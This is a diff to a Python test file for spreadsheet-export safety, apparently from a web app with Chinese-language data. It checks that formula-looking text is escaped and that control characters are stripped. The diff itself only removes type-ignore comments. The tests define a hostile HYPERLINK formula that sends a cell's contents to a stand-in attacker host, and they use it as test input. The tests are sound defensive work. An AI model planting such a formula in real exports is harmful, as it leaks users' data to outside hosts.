@@ -29,7 +29,7 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C2,"详情")'
 )
 def test_formula_looking_text_is_written_as_text_with_a_leading_quote(text):
     book = load_workbook(io.BytesIO(xlsx_bytes(["标题"], [[text]])))
-    cell = book.active["A2"]  # type: ignore[index]
+    cell = book.active["A2"]
     assert cell.data_type == "s"
     assert cell.value == "'" + text
 
@@ -37,24 +37,24 @@ def test_formula_looking_text_is_written_as_text_with_a_leading_quote(text):
 def test_numbers_and_ordinary_text_are_unchanged():
     book = load_workbook(io.BytesIO(xlsx_bytes(["a", "b", "c"], [[-5, 3.5, "某厂 = 偷排"]])))
     ws = book.active
-    assert [c.value for c in ws[2]] == [-5, 3.5, "某厂 = 偷排"]  # type: ignore[index]
+    assert [c.value for c in ws[2]] == [-5, 3.5, "某厂 = 偷排"]
 
 
 def test_control_characters_are_removed_from_xlsx_instead_of_a_500():
     content = xlsx_bytes(["标题"], [["偷排\x0b废水\x01\x1f"]])
     ws = load_workbook(io.BytesIO(content)).active
-    assert ws["A2"].value == "偷排\n废水"  # type: ignore[index]
+    assert ws["A2"].value == "偷排\n废水"
 
 
 def test_every_openpyxl_writer_is_guarded_not_only_core_exports():
     """reporting, enforcement and assessment build their own workbooks."""
     wb = Workbook()
     ws = wb.active
-    ws.append([HYPERLINK, "坏\x01字符"])  # type: ignore[union-attr]
+    ws.append([HYPERLINK, "坏\x01字符"])
     buf = io.BytesIO()
     wb.save(buf)
     back = load_workbook(io.BytesIO(buf.getvalue())).active
-    assert [c.value for c in back[1]] == ["'" + HYPERLINK, "坏字符"]  # type: ignore[index]
+    assert [c.value for c in back[1]] == ["'" + HYPERLINK, "坏字符"]
 
 
 def test_unit_list_export_with_hostile_unit_name_answers_a_safe_workbook(world, client):
@@ -65,7 +65,7 @@ def test_unit_list_export_with_hostile_unit_name_answers_a_safe_workbook(world, 
     r = client.get("/org/units/?format=xlsx")
     assert r.status_code == 200
     ws = load_workbook(io.BytesIO(r.content)).active
-    names = [row[1] for row in ws.iter_rows(min_row=2, values_only=True)]  # type: ignore[union-attr]
+    names = [row[1] for row in ws.iter_rows(min_row=2, values_only=True)]
     assert "'" + HYPERLINK + "\n" in names
     assert not any(isinstance(n, str) and n.startswith("=") for n in names)
 
